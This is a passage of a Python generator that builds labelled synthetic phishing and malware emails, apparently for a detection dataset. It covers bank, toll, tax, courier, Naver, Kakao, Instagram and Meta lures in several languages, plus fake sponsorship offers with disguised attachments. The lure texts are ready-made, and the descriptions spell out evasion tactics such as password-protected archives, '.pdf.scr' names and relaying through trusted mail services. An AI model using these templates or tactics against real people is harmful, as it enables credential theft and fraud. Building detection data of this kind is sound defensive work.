        f"Subject: {ew('滙豐：您的網上理財帳戶已暫停 / Your HSBC Online Banking is suspended')}",
        "To: Undisclosed recipients:;",
    ]
    m.body = alt(name, plain(txt, "UTF-8", "base64"), html(htm, "UTF-8", "quoted-printable"),
                 boundary=f"000000000000{hx(name, 'bnd', 16)}")
    emit(m)


def p_fetc() -> None:
    name = "b15-phish-fetc-etag-unpaid-taiwan"
    t = T("2025-04-08 00:58:41")
    sent = t - timedelta(seconds=2)
    dom = "fetc-tw.com"
    m = Mail(name, "phishing",
             "Far Eastern Electronic Toll (eTag) 'unpaid freeway toll, a fine will be added' lure in Traditional Chinese from a lookalike with own SPF, link to a fetc.net.tw-prefixed card payment page",
             YUTING, "icloud", t, (f"smtp.{dom}", f"smtp.{dom}", "103.214.68.25"), f"service@{dom}", "pass", [], ("none", ""), dom,
             country="HK")
    link = f"https://www.fetc.net.tw.etag-pay.cc/pay/?id={digits(name, 'id', 9)}"
    htm = f"""<html><head><meta charset="UTF-8"></head><body style="font-family:'PingFang TC','Microsoft JhengHei',sans-serif;font-size:15px;">
<div style="max-width:600px;margin:0 auto;">
<div style="background:#0071bc;color:#fff;padding:12px 16px;font-size:19px;font-weight:bold;">遠通電收 FETC</div>
<div style="padding:18px 16px;line-height:1.8;color:#222;">
<p>親愛的用戶您好：</p>
<p>您的車輛於2025年4月3日行駛國道所產生之eTag通行費 <b>新台幣156元</b>，因儲值餘額不足尚未完成扣款。</p>
<p>請於 <b>2025年4月10日</b> 前完成繳納，逾期將依《公路法》加收罰鍰新台幣3,000元至6,000元。</p>
<p style="text-align:center;"><a href="{link}" style="background:#0071bc;color:#fff;padding:11px 34px;text-decoration:none;border-radius:4px;">立即線上繳費</a></p>
<p style="font-size:12px;color:#888;">遠通電收股份有限公司<br>本郵件由系統自動發送，請勿直接回覆。</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: {addr('遠通電收', 'service@' + dom)}",
        f"To: {YUTING}",
        f"Subject: {ew('【遠通電收】通行費欠費通知：您尚有未繳納之eTag通行費')}",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <{hx(name, 'mid', 24)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "UTF-8", "base64")
    emit(m)


def p_naver() -> None:
    name = "b15-phish-naver-overseas-login"
    t = T("2023-12-11 07:19:36")
    sent = t - timedelta(seconds=2)
    dom = "naver-nid-security.com"
    m = Mail(name, "phishing",
             "Naver 'login from an overseas location' warning in Korean, lookalike sender with own SPF/DKIM, the 'this was not me' button goes to a nid.naver.com-prefixed clone that harvests ID, password and OTP",
             JIWOO, "gmail", t, (f"mail.{dom}", f"mail.{dom}", "43.228.77.14"), f"nid_help@{dom}", "pass",
             [("pass", dom, "default")], ("none", ""), dom, country="KR")
    m.sender = [dkim_sig(m, dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    link = f"https://nid.naver.com.login-protect.kr-nid.xyz/user2/help/protect?token={tok(name, 'tk', 24)}"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="margin:0;font-family:'Nanum Gothic','Malgun Gothic',sans-serif;">
<div style="max-width:600px;margin:0 auto;border:1px solid #e4e8eb;">
<div style="padding:18px 24px;"><span style="color:#03c75a;font-size:24px;font-weight:bold;">NAVER</span></div>
<div style="padding:0 24px 24px;font-size:14px;line-height:1.7;color:#222;">
<p style="font-size:18px;font-weight:bold;">해외 지역에서 로그인이 감지되었습니다.</p>
<p>회원님의 네이버 아이디로 평소와 다른 환경에서 로그인되었습니다.</p>
<table style="width:100%;background:#f5f6f7;font-size:13px;padding:10px;">
<tr><td style="width:90px;color:#888;">일시</td><td>2023.12.11 16:12</td></tr>
<tr><td style="color:#888;">지역</td><td>베트남 (Vietnam)</td></tr>
<tr><td style="color:#888;">IP</td><td>113.161.{num(name, 'ip', 1, 250)}.{num(name, 'ip2', 1, 250)}</td></tr>
</table>
<p>본인이 로그인한 것이 아니라면 즉시 아래 버튼을 눌러 보호조치를 진행해 주세요. 24시간 이내에 조치하지 않으면 계정 이용이 제한됩니다.</p>
<p style="text-align:center;margin:22px 0;"><a href="{link}" style="background:#03c75a;color:#fff;padding:12px 40px;text-decoration:none;">본인 아님 - 보호조치 하기</a></p>
<p style="font-size:12px;color:#999;">본 메일은 발신전용입니다. &copy; NAVER Corp.</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: {addr('네이버', 'nid_help@' + dom)}",
        f"To: {JIWOO}",
        f"Subject: {ew('[네이버] 해외 지역에서 로그인이 감지되었습니다.')}",
        f"Date: {fmt(sent, 9)}",
        f"Message-ID: <{hx(name, 'mid', 26)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm)
    emit(m)


def p_kakao() -> None:
    name = "b15-phish-kakao-account-protection"
    t = T("2024-05-30 05:42:58")
    sent = t - timedelta(seconds=2)
    dom = "kakao-account-center.com"
    m = Mail(name, "phishing",
             "Kakao 'account protection measure' notice in Korean to a beauty creator's business address, lookalike domain on Amazon SES (SPF via amazonses, both DKIM pass), link to a Kakao login clone",
             HANEUL, "gmail", t, ("a48-112.smtp-out.amazonses.com", "a48-112.smtp-out.amazonses.com", "54.240.48.112"),
             f"0100018f{hx(name, 'rp', 8)}-{guid(name, 'rp2')}-000000@amazonses.com", "pass",
             [("pass", dom, tok(name, 'sessel', 32)), ("pass", "amazonses.com", "ug7nbtf4gccmlpwj322ax3p6ow6yfsug")],
             ("none", ""), dom, country="US")
    m.sender = ses_sender(m, dom, sent, "us-east-1")
    link = f"https://accounts.{dom}/login?continue=https%3A%2F%2Faccounts.kakao.com%2Fweblogin%2Faccount&sid={tok(name, 's', 16)}"
    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="margin:0;background:#f6f6f6;">
<div style="max-width:560px;margin:0 auto;background:#fff;font-family:'Apple SD Gothic Neo','Malgun Gothic',sans-serif;">
<div style="background:#fee500;padding:16px 22px;font-size:20px;font-weight:bold;color:#191919;">kakao</div>
<div style="padding:24px 22px;font-size:14px;line-height:1.75;color:#333;">
<p style="font-size:17px;font-weight:bold;">카카오계정 보호조치 안내</p>
<p>고객님의 카카오계정에서 비정상적인 로그인 시도가 여러 차례 확인되어 계정 보호조치가 적용되었습니다.</p>
<p>보호조치 해제를 위해 본인 확인 후 비밀번호를 변경해 주세요. 미조치 시 카카오톡 및 연결된 서비스 이용이 제한될 수 있습니다.</p>
<p style="text-align:center;margin:24px 0;"><a href="{link}" style="background:#191919;color:#fff;padding:12px 36px;border-radius:6px;text-decoration:none;">보호조치 해제하기</a></p>
<p style="font-size:12px;color:#999;">본 메일은 발신 전용 메일입니다.<br>(주)카카오 | 제주특별자치도 제주시 첨단로 242</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: {addr('Kakao', 'noreply@' + dom)}",
        f"To: {HANEUL}",
        f"Subject: {ew('[카카오] 카카오계정 보호조치 안내 - 비정상 로그인 시도')}",
        "MIME-Version: 1.0",
        "Content-Language: ko",
        f"Message-ID: <0100018f{hx(name, 'rp', 8)}-{guid(name, 'rp2')}-000000@email.amazonses.com>",
        f"Date: {fmt(sent, 0)}",
    ]
    m.body = html(htm, "UTF-8", "quoted-printable")
    emit(m)


def p_cj_logistics() -> None:
    name = "b15-phish-cj-logistics-address-mismatch-euckr"
    t = T("2025-09-24 03:30:12")
    sent = t - timedelta(seconds=2)
    dom = "cj-delivery-kr.com"
    m = Mail(name, "phishing",
             "CJ Logistics 'delivery held, address mismatch' lure before Chuseok, Korean text in EUC-KR, asks for a 3,000 won address-correction fee through a card form on a lookalike; SPF pass, no DKIM",
             JIWOO, "gmail", t, (f"mail.{dom}", None, "27.124.40.219"), f"cjlogistics@{dom}", "pass", [], ("none", ""), dom,
             country="HK")
    link = f"https://www.cjlogistics.com.{dom}/web/info?no={digits(name, 'no', 12)}"
    body = f"""[CJ대한통운] 배송 보류 안내

고객님의 택배가 주소지 정보 불일치로 인해 배송이 보류되었습니다.

운송장번호 : {digits(name, 'no', 12)}
보류사유 : 도로명주소 / 상세주소 불일치
보관기한 : 2025년 9월 26일

추석 연휴 전 배송을 원하시면 아래 링크에서 주소를 수정하시고
주소 정정 수수료 3,000원을 결제해 주시기 바랍니다.

{link}

보관기한 경과 시 상품은 발송처로 반송됩니다.

CJ대한통운 고객센터
"""
    m.headers = [
        f"From: {addr('CJ대한통운', 'cjlogistics@' + dom, 'EUC-KR')}",
        f"To: {JIWOO}",
        f"Subject: {ew('[CJ대한통운] 주소지 불일치로 배송이 보류되었습니다', 'EUC-KR')}",
        f"Date: {fmt(sent, 8)}",
        f"Message-ID: <{digits(name, 'mid', 14)}.{hx(name, 'mid2', 8)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = plain(body, "euc-kr", "base64")
    emit(m)


def p_sbi_kyc() -> None:
    name = "b15-phish-sbi-yono-kyc-pan"
    t = T("2023-04-25 05:51:40")
    sent = t - timedelta(seconds=2)
    dom = "sbi-kyc-update.in"
    m = Mail(name, "phishing",
             "SBI 'your YONO account will be blocked today, update PAN / KYC' lure in typical Indian-English scam phrasing from a .in lookalike, link to a YONO clone asking for username, password, PAN and OTP",
             PRIYA, "outlook", t, (f"server1.{dom}", f"server1.{dom}", "103.120.176.88"), f"alerts@{dom}", "pass", [],
             ("none", ""), dom, junk=True, country="IN")
    link = f"https://sbi-yono-kyc.onlinesbi-update.in/retail/login.htm?ref={digits(name, 'r', 8)}"
    txt = f"""Dear Customer,

Your SBI YONO A/c will be blocked today. Please update your PAN Card / KYC details immediately to continue using YONO and Internet Banking services.

Click here to update: {link}

Note: As per RBI guidelines all customers must complete KYC updation. Failure to update will result in your account being freeze.

Regards,
State Bank of India
(This is a system generated mail, pls do not reply)
"""
    m.headers = [
        f"From: SBI YONO <alerts@{dom}>",
        f"To: {PRIYA}",
        "Subject: Dear Customer Your SBI YONO A/c Will Be Blocked Today Pls Update Your PAN Card",
        f"Date: {fmt(sent, 5.5)}",
        f"Message-ID: <{hx(name, 'mid', 32)}@{dom}>",
        "X-Mailer: PHPMailer 5.2.28 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    m.body = plain(txt, "iso-8859-1", "8bit")
    emit(m)


def p_itr_refund() -> None:
    name = "b15-phish-india-income-tax-refund"
    t = T("2024-09-10 10:14:26")
    sent = t - timedelta(seconds=2)
    dom = "incometax-efiling-refund.com"
    m = Mail(name, "phishing",
             "Indian Income Tax Department 'refund of Rs 15,490 approved' lure after the ITR deadline, lookalike with own SPF/DKIM, link to a clone that collects PAN, net-banking login and card details",
             PRIYA, "outlook", t, (f"mail.{dom}", f"mail.{dom}", "172.105.44.201"), f"refund@{dom}", "pass",
             [("pass", dom, "mail")], ("none", ""), dom, country="SG")
    m.sender = [dkim_sig(m, dom, "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent)]
    link = f"https://incometax.gov.in.refund-efiling.co/iec/foservices/?ack={digits(name, 'ack', 15)}"
    htm = f"""<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;">
<div style="max-width:620px;margin:0 auto;border:1px solid #ccc;">
<div style="background:#1c3f95;color:#fff;padding:12px 16px;"><b>e-Filing</b> | Income Tax Department, Government of India</div>
<div style="padding:16px;line-height:1.6;">
<p>Dear Taxpayer,</p>
<p>After the last annual calculation of your fiscal activity for Assessment Year 2024-25, we have determined that you are eligible to receive a tax refund of <b>Rs. 15,490.00</b>.</p>
<p>Please submit the tax refund request and allow us 3-5 business days to process it. A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.</p>
<p><a href="{link}" style="background:#f7941d;color:#fff;padding:9px 22px;text-decoration:none;">Submit refund request</a></p>
<p>Acknowledgement No.: {digits(name, 'ack', 15)}</p>
<p>Regards,<br>Centralized Processing Centre<br>Income Tax Department</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: Income Tax Department <refund@{dom}>",
        f"To: {PRIYA}",
        "Subject: Income Tax Refund of Rs. 15,490 approved - submit your request",
        f"Date: {fmt(sent, 5.5)}",
        f"Message-ID: <{hx(name, 'mid', 28)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm)
    emit(m)


# ===========================================================================
# ATTACKS - creators, gamers, crypto
# ===========================================================================


def p_instagram_copyright() -> None:
    name = "b15-phish-instagram-copyright-lookalike-mailgun"
    t = T("2023-10-05 13:26:48")
    sent = t - timedelta(seconds=2)
    dom = "meta-copyright-center.com"
    m = Mail(name, "phishing",
             "Instagram 'your account has been reported for copyright infringement, appeal within 24 hours' sent to a travel creator through Mailgun from a lookalike (SPF/DKIM pass for its mg. subdomain), appeal button is a Mailgun click-tracking redirect to a Meta login clone",
             SALT, "m365", t, (f"m228-{num(name, 'm', 10, 99)}.mailgun.net", f"m228-{num(name, 'm', 10, 99)}.mailgun.net", "159.135.228.47"),
             f"bounce+{hx(name, 'bb', 6)}.{hx(name, 'bb2', 6)}-hello=saltwaterlens.com.au@mg.{dom}", "pass",
             [("pass", f"mg.{dom}", "k1")], ("none", ""), dom, country="US")
    m.sender = [dkim_sig(m, f"mg.{dom}", "k1", "Content-Transfer-Encoding:Content-Type:Mime-Version:Subject:Subject:From:From:To:To:Message-Id:Date:Sender:Sender", sent, bits=1024),
                f"X-Mailgun-Sending-Ip: 159.135.228.47",
                f"X-Mailgun-Sid: {b64(name, 'sid', 60)}",
                f"Received: from [127.0.0.1] (ec2-3-{num(name, 'e1', 80, 99)}-{num(name, 'e2', 1, 250)}-{num(name, 'e3', 1, 250)}.compute-1.amazonaws.com [3.{num(name, 'e1', 80, 99)}.{num(name, 'e2', 1, 250)}.{num(name, 'e3', 1, 250)}])\n"
                f" by {hx(name, 'mgh', 16)} with SMTP\n id {hx(name, 'mgid', 24)} (version=TLS1.3, cipher=TLS_AES_128_GCM_SHA256);\n {fmt(sent, 0)}"]
    click = f"http://email.mg.{dom}/c/eJw{b64(name, 'click', 140, True)}"
    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;background:#ffffff;font-family:Helvetica,Arial,sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="520" cellpadding="0" cellspacing="0" style="border:1px solid #dbdbdb;margin:24px 0;">
<tr><td style="padding:20px 24px;border-bottom:1px solid #efefef;font-size:24px;font-family:'Billabong',cursive,Helvetica;">Instagram</td></tr>
<tr><td style="padding:24px;font-size:14px;color:#262626;line-height:1.6;">
<p>Hi saltwaterlens,</p>
<p>We received a report that content on your account infringes the copyright of another party. Under our Terms of Use, repeated infringement may lead to your account being permanently disabled.</p>
<p><b>Report ID:</b> CR-{digits(name, 'cr', 10)}<br><b>Reported content:</b> Reel posted on 2 October 2023</p>
<p>If you believe this report is a mistake, you can submit an appeal. If we do not receive an appeal within <b>24 hours</b>, your account will be disabled and cannot be restored.</p>
<p style="text-align:center;margin:24px 0;"><a href="{click}" style="background:#0095f6;color:#fff;padding:10px 28px;border-radius:8px;text-decoration:none;font-weight:bold;">Submit appeal</a></p>
<p style="color:#8e8e8e;font-size:12px;">Thanks,<br>The Instagram Team</p>
</td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#8e8e8e;">&copy; Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025<img src="http://email.mg.{dom}/o/eJw{b64(name, 'open', 60, True)}" width="1" height="1" alt=""></td></tr>
</table></td></tr></table></body></html>
"""
    m.headers = [
        f"Sender: no-reply@mg.{dom}",
        "Mime-Version: 1.0",
        "Subject: Your account has been reported for copyright infringement",
        f"From: Instagram <no-reply@{dom}>",
        f"To: {SALT}",
        f"Message-Id: <{digits(name, 'mid', 14)}.{hx(name, 'mid2', 16)}@mg.{dom}>",
        f"Date: {fmt(sent, 0)}",
    ]
    m.body = html(htm, "utf-8", "quoted-printable")
    emit(m)


def p_meta_salesforce() -> None:
    name = "b15-phish-meta-page-suspended-via-salesforce"
    t = T("2023-08-02 15:08:31")
    sent = t - timedelta(seconds=2)
    org = f"00D{tok(name, 'org', 12, ALNUM_MIX)}"
    env = f"noreply=salesforce.com__0-{tok(name, 'e1', 14)}@{tok(name, 'e2', 14)}.{num(name, 'e3', 1, 9)}-{tok(name, 'e4', 6, ALNUM_MIX)}.na{num(name, 'na', 100, 200)}.bnc.salesforce.com"
    m = Mail(name, "phishing",
             "Meta 'your page has been suspended for a policy violation' case notice relayed through Salesforce's email gateway from noreply@salesforce.com (SPF/DKIM/DMARC pass for salesforce.com), the appeal link points to an attacker app hosted on apps.facebook.com",
             PIXEL, "gmail", t, (f"smtp{num(name, 'smtp', 10, 19)}-ia4-sp3.mta.salesforce.com", f"smtp{num(name, 'smtp', 10, 19)}-ia4-sp3.mta.salesforce.com", "13.110.6.218"),
             env, "pass", [("pass", "salesforce.com", "sf112017")], ("pass", "REJECT"), "salesforce.com", country="US")
    m.sender = [dkim_sig(m, "salesforce.com", "sf112017", "Date:From:To:Subject:MIME-Version:Content-Type", sent),
                f"Received: from [10.{num(name, 'i1', 1, 250)}.{num(name, 'i2', 1, 250)}.{num(name, 'i3', 1, 250)}] ([10.{num(name, 'i1', 1, 250)}.{num(name, 'i2', 1, 250)}.{num(name, 'i3', 1, 250)}:{num(name, 'port', 30000, 60000)}] helo=na{num(name, 'na', 100, 200)}-app2-{num(name, 'app', 1, 40)}-ia4.ops.sfdc.net)\n"
                f"\tby mx1-ia4-sp3.mta.salesforce.com (envelope-from <{env}>)\n\t(ecelerity 4.3.1.999 r(:)) with ESMTPS (cipher=ECDHE-RSA-AES256-GCM-SHA384\n"
                f"\tsubject=\"/C=US/ST=California/L=San Francisco/O=salesforce.com, inc./OU=0:app;1:ia4;2:ia4-sp3;3:na{num(name, 'na', 100, 200)};4:prod/CN=na{num(name, 'na', 100, 200)}-app2-{num(name, 'app', 1, 40)}-ia4.ops.sfdc.net\")\n"
                f"\tid {hx(name, 'ec', 2, True)}/{hx(name, 'ec2', 2, True)}-{num(name, 'ec3', 10000, 99999)}-{hx(name, 'ec4', 8)}; {fmt(sent, 0)}"]
    app = f"https://apps.facebook.com/meta-appeal-center-{digits(name, 'app', 6)}/?case={digits(name, 'case', 15)}"
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="font-family:Helvetica,Arial,sans-serif;background:#f0f2f5;margin:0;">
<div style="max-width:580px;margin:20px auto;background:#fff;border-radius:8px;overflow:hidden;">
<div style="background:#0866ff;color:#fff;padding:16px 22px;font-size:20px;font-weight:bold;">Meta for Business</div>
<div style="padding:22px;font-size:15px;color:#1c1e21;line-height:1.55;">
<p><b>Your page has been suspended</b></p>
<p>We have received multiple reports that your page <b>Pixel Dumpling</b> violates our Community Standards regarding intellectual property. As a result, your page has been scheduled for permanent removal.</p>
<p>Case number: <b>#{digits(name, 'case', 15)}</b></p>
<p>If you think this decision is incorrect, you may request a review. You must submit your request within 48 hours, otherwise the decision will be final.</p>
<p style="margin:26px 0;"><a href="{app}" style="background:#0866ff;color:#fff;padding:11px 26px;border-radius:6px;text-decoration:none;font-weight:bold;">Request review</a></p>
<p style="font-size:12px;color:#65676b;">Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</p>
</div></div></body></html>
"""
    m.headers = [
        f"Date: {fmt(sent, 0)}",
        "From: Meta for Business <noreply@salesforce.com>",
        f"To: \"{PIXEL}\" <{PIXEL}>",
        f"Message-ID: <{tok(name, 'mid', 20, ALNUM_MIX)}{hx(name, 'mid2', 20)}@sfdc.net>",
        f"Subject: Your page has been suspended due to a policy violation (Case #{digits(name, 'case', 15)})",
        "MIME-Version: 1.0",
        "X-Priority: 3",
        "X-SFDC-LK: " + org,
        "X-SFDC-User: 005" + tok(name, 'usr', 12, ALNUM_MIX),
        "X-Sender: postmaster@salesforce.com",
        "X-mail_abuse_inquiries: http://www.salesforce.com/company/abuse.jsp",
        "X-SFDC-TLS-NoRelay: 1",
        "X-SFDC-Binding: 1WrIRBV94myi25uB",
        f"X-SFDC-EmailCategory: apiSingleMail",
        "X-SFDC-Interface: internal",
    ]
    m.body = Multi("alternative", f"----=_Part_{num(name, 'p1', 100000, 999999)}_{num(name, 'p2', 100000000, 999999999)}.{digits(name, 'p3', 13)}",
                   [plain(f"Your page has been suspended\n\nWe have received multiple reports that your page Pixel Dumpling violates our Community Standards regarding intellectual property.\n\nCase number: #{digits(name, 'case', 15)}\n\nRequest review: {app}\n\nMeta Platforms, Inc.\n", "UTF-8", "7bit"),
                    html(htm, "UTF-8", "quoted-printable")])
    emit(m)


def p_fb_page_access() -> None:
    name = "b15-phish-facebook-page-access-request-genuine"
    t = T("2024-03-14 06:51:22")
    sent = t - timedelta(seconds=2)
    env = f"notification+z{tok(name, 'rp', 10)}@facebookmail.com"
    m = Mail(name, "phishing",
             "Genuine Facebook notification (facebookmail.com, all authentication passes) in Japanese: a Business Manager named 'Meta Copyright Protection' requests access to the cooking channel's Page; approving it hands the Page to the attacker",
             MEI, "gmail", t, ("69-171-232-143.mail-mail.facebook.com", "69-171-232-143.mail-mail.facebook.com", "69.171.232.143"),
             env, "pass", [("pass", "facebookmail.com", "s1024-2013-q3")], ("pass", "REJECT"), "facebookmail.com", country="US")
    m.sender = [dkim_sig(m, "facebookmail.com", "s1024-2013-q3", "Date:To:Subject:From:MIME-Version:Content-Type", sent, bits=1024, c="simple/relaxed"),
                f"Received: from facebook.com (0bG2IUKr8jYm2DoEqLSM8CUjfPmBBdLTX5BuJ6NqSqHmfKwtb8o0JXqp/1O7 {b64(name, 'fbrx', 40)}\n"
                f" 2401:db00:{hv(name, 'fv6', 4)}:{hv(name, 'fv62', 4)}:face:0:{num(name, 'fv63', 10, 99)}:0)\n by facebook.com with Thrift id {hx(name, 'thr', 32)}-{hx(name, 'thr2', 10)};\n {fmt(sent, pacific(sent)[0])}"]
    base = "https://www.facebook.com/n/?business%2Fsettings%2Frequests"
    q = f"&aref={digits(name, 'aref', 10)}&medium=email&mid={hx(name, 'fbmid', 13)}G5af3b{hx(name, 'fbmid2', 6)}G0Gb{digits(name, 'n', 3)}&n_m={MEI.replace('@', '%40')}"
    htm = f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional //EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html xmlns="http://www.w3.org/1999/xhtml"><head><title>Facebook</title><meta http-equiv="Content-Type" content="text/html; charset=utf-8" /></head>
<body style="margin:0;padding:0;" dir="ltr" bgcolor="#ffffff"><table border="0" cellspacing="0" cellpadding="0" align="center" id="email_table" style="border-collapse:collapse;"><tr><td id="email_content" style="font-family:Helvetica Neue,Helvetica,Lucida Grande,tahoma,verdana,arial,sans-serif;background:#ffffff;">
<table border="0" width="100%" cellspacing="0" cellpadding="0" style="border-collapse:collapse;"><tr><td style="line-height:20px;" colspan="3">&nbsp;</td></tr>
<tr><td width="15" style="display:block;width:15px;">&nbsp;&nbsp;&nbsp;</td><td><table border="0" width="100%" cellspacing="0" cellpadding="0" style="border-collapse:collapse;">
<tr><td style="font-size:17px;font-family:Helvetica Neue,Helvetica,Lucida Grande,tahoma,verdana,arial,sans-serif;color:#141823;line-height:26px;">
<span style="font-weight:bold;">Meta Copyright Protection</span>があなたのページ「<span style="font-weight:bold;">Kumo Kitchen くもキッチン</span>」へのアクセスをリクエストしました。</td></tr>
<tr><td style="font-size:14px;color:#65676b;line-height:20px;padding-top:8px;">このリクエストを承認すると、Meta Copyright Protectionはページのすべての管理権限（コンテンツ、メッセージ、広告、インサイト）を取得します。リクエストは「ビジネス設定」の「リクエスト」で確認できます。</td></tr>
<tr><td style="padding-top:18px;"><a href="{base}{q}" style="color:#ffffff;text-decoration:none;"><table border="0" cellspacing="0" cellpadding="0" style="border-collapse:collapse;"><tr><td style="border-radius:6px;background:#1877f2;padding:10px 20px;font-size:14px;font-weight:bold;color:#ffffff;">リクエストを確認</td></tr></table></a></td></tr>
</table></td><td width="15" style="display:block;width:15px;">&nbsp;&nbsp;&nbsp;</td></tr>
<tr><td style="line-height:20px;" colspan="3">&nbsp;</td></tr></table>
<table border="0" width="100%" cellspacing="0" cellpadding="0" style="border-collapse:collapse;"><tr><td style="font-size:11px;color:#aaaaaa;line-height:16px;padding:0 15px 20px;">このメッセージは{MEI}宛に送信されました。今後Facebookからこのようなメールを受け取りたくない場合は、<a href="https://www.facebook.com/o.php?k={b64(name, 'unsub', 22, True)}&amp;u={digits(name, 'uid', 15)}&amp;mid={hx(name, 'fbmid', 13)}" style="color:#aaaaaa;">配信を停止</a>してください。<br>Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr></table>
</td></tr></table></body></html>
"""
    txt = f"""Meta Copyright Protectionがあなたのページ「Kumo Kitchen くもキッチン」へのアクセスをリクエストしました。

このリクエストを承認すると、Meta Copyright Protectionはページのすべての管理権限（コンテンツ、メッセージ、広告、インサイト）を取得します。

リクエストを確認:
{base}{q}

========================================
このメッセージは{MEI}宛に送信されました。
Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025
"""
    subj = "Meta Copyright ProtectionがKumo Kitchen くもキッチンへのアクセスをリクエストしました"
    m.headers = [
        f"Date: {fmt(sent, pacific(sent)[0])}",
        f"To: {addr('Mei Sakurai', MEI)}",
        f"Subject: {ew(subj)}",
        f"X-Priority: 3",
        "X-Mailer: ZuckMail [version 1.00]",
        f"From: Facebook <notification@facebookmail.com>",
        f"Message-ID: <{hx(name, 'fbmsg', 32)}@facebookmail.com>",
        f"List-Unsubscribe: <https://www.facebook.com/o.php?k={b64(name, 'unsub', 22, True)}&u={digits(name, 'uid', 15)}&mid={hx(name, 'fbmid', 13)}>",
        "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
        f"Feedback-ID: 0:page_access_request:Facebook",
        "X-Facebook-Notify: page_access_request; mailid=" + hx(name, 'fbmid', 13),
        "X-FACEBOOK-PRIORITY: 0",
        "X-Auto-Response-Suppress: All",
        f"Errors-To: {env}",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(txt, "utf-8", "quoted-printable"), html(htm, "utf-8", "quoted-printable"),
                 boundary=f"b1_{hx(name, 'bnd', 32)}")
    emit(m)


def p_sponsor_zip() -> None:
    name = "b15-phish-yt-sponsorship-encrypted-zip"
    t = T("2024-10-21 08:14:55")
    sent = t - timedelta(seconds=1)
    snd = "aetherfall.partnerships@gmail.com"
    m = Mail(name, "malware",
             "Game 'sponsorship offer' to a tech YouTuber from a free Gmail account, with a password-protected zip (password in the mail body, so gateways cannot scan it) holding an infostealer disguised as 'Integration_Brief_and_Payment_Terms.pdf.scr' next to a decoy image",
             PIXEL, "gmail", t, ("mail-sor-f41.google.com", "mail-sor-f41.google.com", "209.85.220.41"), snd, "pass",
             [("pass", "gmail.com", "20230601")], ("pass", "NONE"), "gmail.com", gts=True)
    m.sender = gmail_sender(m, sent)
    stub = files.pe_stub() + _stream(name, "payload", 48000)
    archive = encrypted_zip([
        ("Aetherfall_Sponsorship_Kit_2024/Integration_Brief_and_Payment_Terms.pdf.scr", stub),
        ("Aetherfall_Sponsorship_Kit_2024/Media_Kit_preview.jpg", files.photo_jpeg(num(name, "jpg", 1, 50))),
    ], "AF2024", name, (2024, 10, 21, 15, 2, 18))
    txt = """Hi Pixel Dumpling team,

My name is Daniel Brooks and I handle creator partnerships for Aetherfall: Rift Legends, a new cross-platform action RPG launching in SEA this November.

We've been following your channel for a while - your laptop and handheld reviews are exactly the audience we want to reach. We'd love to sponsor a dedicated 60-90 second integration in one of your upcoming videos.

Proposed terms:
- Budget: USD 4,800 for one integration (50% upfront)
- Timeline: video live between 4-15 November
- Early access keys for you and your team

I've attached our sponsorship kit with the integration brief, talking points and payment terms. For confidentiality the archive is password protected:

Password: AF2024

Let me know if this works for you and we can send the contract right away.

Best regards,
Daniel Brooks
Creator Partnerships | Aetherfall: Rift Legends
"""
    htm = "<div dir=\"ltr\">" + "".join(f"<div>{line if line else '<br>'}</div>" for line in txt.split("\n")) + "</div>\n"
    m.headers = [
        "MIME-Version: 1.0",
        f"From: Daniel Brooks <{snd}>",
        f"Date: {fmt(sent, 7)}",
        f"Message-ID: <CAO{b64(name, 'mid', 44)}@mail.gmail.com>",
        "Subject: Sponsorship opportunity - Aetherfall: Rift Legends x Pixel Dumpling",
        f"To: {PIXEL}",
    ]
    m.body = mixed(f"000000000000{hx(name, 'bnd1', 16)}",
                   Multi("alternative", f"000000000000{hx(name, 'bnd2', 16)}", [plain(txt, "UTF-8", "7bit"), html(htm, "UTF-8", "quoted-printable")]),
                   Leaf("application/zip", archive, "base64", '; name="Aetherfall_Sponsorship_Kit_2024.zip"',
                        'attachment; filename="Aetherfall_Sponsorship_Kit_2024.zip"',
                        [f"Content-ID: <f_m{tok(name, 'fid', 9)}0>", f"X-Attachment-Id: f_m{tok(name, 'fid', 9)}0"]))
    emit(m)


def p_sponsor_mega() -> None:
    name = "b15-phish-beauty-sponsor-mega-brief"
    t = T("2025-02-12 02:33:09")
    sent = t - timedelta(seconds=1)
    dom = "glowmere-beauty.com"
    snd = f"chloe.han@{dom}"
    m = Mail(name, "malware",
             "Skincare-brand collaboration offer to a Korean beauty creator from a freshly registered Google Workspace domain (SPF, DKIM and DMARC all pass), the 'brand brief' is a MEGA link to a password-protected RAR holding an infostealer executable",
             HANEUL, "gmail", t, ("mail-sor-f73.google.com", "mail-sor-f73.google.com", "209.85.220.73"), snd, "pass",
             [("pass", dom, "google")], ("pass", "NONE"), dom, gts=True)
    m.sender = [dkim_sig(m, dom, "google", "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to", sent, expire=604800),
